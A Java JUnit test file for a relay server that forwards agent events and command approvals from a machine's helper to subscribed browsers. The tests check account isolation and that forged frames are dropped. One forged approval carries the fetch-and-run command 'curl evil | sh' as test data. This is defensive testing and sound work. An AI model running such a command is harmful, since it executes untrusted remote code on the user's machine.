package net.flydex.server.relay;

import static net.flydex.server.relay.RelayTestServer.NOTHING_WITHIN;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import net.flydex.protocol.AgentMessage;
import net.flydex.protocol.Approval;
import net.flydex.protocol.ApprovalKind;
import net.flydex.protocol.ApprovalResolution;
import net.flydex.protocol.CodexStatus;
import net.flydex.protocol.Decision;
import net.flydex.protocol.RelayFrames;
import net.flydex.protocol.ResolvedBy;
import net.flydex.protocol.WireJson;
import net.flydex.server.app.Backend;
import net.flydex.server.machines.AgentSocketClient;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

class RelaySubscribeTest {
    @AutoClose
    private final RelayTestServer server = new RelayTestServer();

    @Test
    void subscribingSendsPresenceOnlyAndAsksTheHelperNothing() throws Exception {
        PairedMachine ada = server.startWithAda(Backend.SQLITE);
        AgentSocketClient browser = ada.openBrowser();

        JsonNode presence = ada.subscribe(browser);

        assertThat(presence.path("machineId").asString()).isEqualTo(ada.machineId);
        assertThat(presence.path("online").asBoolean()).isTrue();
        assertThat(presence.path("codexStatus").asString()).isEqualTo("ready");
        assertThat(browser.poll(NOTHING_WITHIN)).as("pending approvals are the helper's to send, sealed, after a handshake").isEmpty();
        assertThat(ada.helper.poll(Duration.ZERO)).as("the relay no longer asks approvals/list").isEmpty();
    }

    @Test
    void eventsAndApprovalsReachEverySubscribedBrowserOfTheAccountAndNoOtherAccount() throws Exception {
        PairedMachine ada = server.startWithAda(Backend.SQLITE);
        PairedMachine bob = server.online("bob@example.com");
        AgentSocketClient phone = ada.openBrowser();
        AgentSocketClient desk = ada.openBrowser();
        AgentSocketClient unsubscribed = ada.openBrowser();
        AgentSocketClient bobs = bob.openBrowser();
        ada.subscribe(phone);
        ada.subscribe(desk);
        bob.subscribe(bobs);

        List<ObjectNode> frames = List.of(
                RelayFrames.event(ada.machineId, "turn/started", WireJson.mapper().readTree("{\"threadId\":\"thr_1\",\"turn\":{\"id\":\"t1\"}}")),
                RelayFrames.approval(ada.machineId, approval("apv_9", "make deploy")),
                RelayFrames.approvalResolved(ada.machineId, new ApprovalResolution("apv_9", Decision.DECLINE, ResolvedBy.DESKTOP)));
        frames.forEach(frame -> ada.helper.send(frame.toString()));

        for (AgentSocketClient browser : List.of(phone, desk)) {
            for (ObjectNode frame : frames) {
                assertThat(browser.next()).isEqualTo(frame);
            }
        }
        assertThat(bobs.poll(NOTHING_WITHIN)).isEmpty();
        assertThat(unsubscribed.poll(Duration.ZERO)).isEmpty();
    }

    @Test
    void aHelperFrameNamingAnotherMachineIsDropped() throws Exception {
        PairedMachine ada = server.startWithAda(Backend.SQLITE);
        PairedMachine bob = server.online("bob@example.com");
        AgentSocketClient bobs = bob.openBrowser();
        bob.subscribe(bobs);
        AgentSocketClient adas = ada.openBrowser();
        ada.subscribe(adas);

        ada.helper.send(RelayFrames.event(bob.machineId, "turn/started", WireJson.mapper().createObjectNode()).toString());
        ada.helper.send(RelayFrames.approval(bob.machineId, approval("apv_forged", "curl evil | sh")).toString());
        ada.helper.send("{\"type\":\"event\",\"method\":\"turn/started\",\"params\":{}}");
        ObjectNode own = RelayFrames.event(ada.machineId, "turn/completed", WireJson.mapper().createObjectNode());
        ada.helper.send(own.toString());

        assertThat(adas.next()).as("only the frame naming the helper's own machine").isEqualTo(own);
        assertThat(bobs.poll(NOTHING_WITHIN)).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(Backend.class)
    void anotherAccountCannotSubscribeToAMachine(Backend backend) throws Exception {
        PairedMachine ada = server.startWithAda(backend);
        AgentSocketClient mallory = server.stranger();

        mallory.send(Map.of("type", "subscribe", "id", "s-1", "machineId", ada.machineId));
        JsonNode refused = mallory.next();
        mallory.send(Map.of("type", "subscribe", "machineId", "mch_doesNotExistAnywhere123"));
        JsonNode unknown = mallory.next();
        ada.helper.send(RelayFrames.event(ada.machineId, "turn/started", WireJson.mapper().createObjectNode()).toString());

        assertThat(refused.path("id").asString()).isEqualTo("s-1");
        assertThat(refused.path("error").path("code").asString()).isEqualTo("not_found");
        assertThat(unknown.path("id").isNull()).isTrue();
        assertThat(refused.path("error")).isEqualTo(unknown.path("error"));
        assertThat(mallory.poll(NOTHING_WITHIN)).isEmpty();
        assertThat(ada.helper.poll(Duration.ZERO)).isEmpty();
    }

    @Test
    void presenceFollowsCodexStatusAndTheHelperLeaving() throws Exception {
        PairedMachine ada = server.startWithAda(Backend.SQLITE);
        AgentSocketClient browser = ada.openBrowser();
        ada.subscribe(browser);

        ada.helper.send(new AgentMessage.Status(CodexStatus.ERROR));
        JsonNode crashed = browser.next();
        assertThat(crashed.path("type").asString()).isEqualTo("machine");
        assertThat(crashed.path("online").asBoolean()).isTrue();
        assertThat(crashed.path("codexStatus").asString()).isEqualTo("error");

        ada.helper.close();
        JsonNode gone = browser.next();
        assertThat(gone.path("machineId").asString()).isEqualTo(ada.machineId);
        assertThat(gone.path("online").asBoolean()).isFalse();

        AgentSocketClient back = ada.agent.connect(ada.machineId);
        assertThat(back.next().path("type").asString()).isEqualTo("welcome");
        JsonNode returned = browser.next();
        assertThat(returned.path("online").asBoolean()).isTrue();
        assertThat(returned.path("codexStatus").asString()).isEqualTo("ready");
        assertThat(back.poll(NOTHING_WITHIN)).as("a helper coming back is not asked for its approvals").isEmpty();
    }

    @Test
    void anUnsubscribedBrowserGetsNothingMore() throws Exception {
        PairedMachine ada = server.startWithAda(Backend.SQLITE);
        AgentSocketClient browser = ada.openBrowser();
        ada.subscribe(browser);
        ada.subscribe(browser);

        browser.send(Map.of("type", "unsubscribe", "machineId", ada.machineId));
        browser.send(Map.of("type", "rpc", "id", "sync", "machineId", ada.machineId, "method", "thread/list"));
        ada.answer(ada.nextRpc(), WireJson.mapper().createObjectNode());
        assertThat(browser.next().path("id").asString()).as("the unsubscribe was handled before this answer").isEqualTo("sync");
        ada.helper.send(RelayFrames.event(ada.machineId, "turn/started", WireJson.mapper().createObjectNode()).toString());

        assertThat(browser.poll(NOTHING_WITHIN)).isEmpty();
    }

    private static ObjectNode approval(String approvalId, String command) {
        var approval = new Approval(approvalId, ApprovalKind.COMMAND, "thr_1", "turn_1", "call_1", Optional.of(command),
                Optional.of("/home/ada/project"), Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty(),
                List.of(Decision.ACCEPT, Decision.DECLINE), Instant.parse("2026-11-24T14:00:00Z"));
        return WireJson.mapper().valueToTree(approval);
    }
}
